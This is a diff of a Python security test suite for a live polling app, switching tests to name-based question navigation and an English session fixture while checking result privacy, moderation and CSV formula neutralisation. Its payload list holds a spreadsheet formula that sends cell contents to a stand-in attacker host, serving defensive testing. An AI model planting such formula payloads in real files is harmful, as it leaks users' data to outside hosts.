@@ -16,6 +16,7 @@ from starlette.routing import Route
 from poll.web.resources import resource_dir
 from tests.security.conftest import World, count
 from tests.security.helpers import vote_by_form
+from tests.support.scripts import ENGLISH
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
@@ -73,8 +74,8 @@ def messages_of(ws: Any, until_type: str = "pong") -> list[str]:
 
 def test_a_participant_never_sees_others_answers_or_hidden_results(world: World) -> None:
     room, code = world.start_run()
-    retro, retro_code = world.start_run("team-retro")
-    world.act(room, "go", index="10")  # open question, results live on the projector
+    retro, retro_code = world.start_run(ENGLISH)
+    world.go_to(room, "aanvullende-vragen")  # open question, results live on the projector
     secret = "GEHEIM-antwoord-van-anna"
     with world.as_("anna") as anna:
         vote_by_form(anna, code, "aanvullende-vragen", text=secret)
@@ -105,8 +106,8 @@ def test_a_participant_never_sees_others_answers_or_hidden_results(world: World)
                 response = bram.get(path)
                 assert response.status_code == 403 and secret not in response.text
                 count("attacks refused: participant reading results through routes")
-    # Hidden results (team-retro's first question): not on phones, not on the projector.
-    world.act(retro, "go", index="1")
+    # Hidden results (the English session's first question): not on phones, not on the projector.
+    world.go_to(retro, "on-track")
     with world.as_("anna") as anna:
         vote_by_form(anna, retro_code, "on-track", choice="yes")
     with world.as_("bram") as bram:
@@ -121,7 +122,7 @@ def test_a_participant_never_sees_others_answers_or_hidden_results(world: World)
 
 def test_moderated_texts_leave_the_projector(world: World) -> None:
     room, code = world.start_run()
-    world.act(room, "go", index="10")
+    world.go_to(room, "aanvullende-vragen")
     with world.as_("anna") as anna:
         vote_by_form(anna, code, "aanvullende-vragen", text="iets ongepasts")
     with world.client.websocket_connect(f"/ws/console/{room}") as ws:
@@ -169,11 +170,11 @@ def assert_no_formula(text: str, what: str) -> int:
 def test_csv_exports_neutralise_formulas(world: World) -> None:
     formula_session(world)
     room, code = world.start_run("formulas")
-    world.act(room, "go", index="0")
+    world.go_to(room, "c")
     for n, payload in enumerate(FORMULAS):
         with world.as_(f"phone{n}") as phone:
             vote_by_form(phone, code, "c", choices="_other", other=payload)
-    world.act(room, "go", index="1")
+    world.go_to(room, "o")
     with world.as_("phone0") as phone:
         for payload in FORMULAS[:5]:
             vote_by_form(phone, code, "o", text=payload)
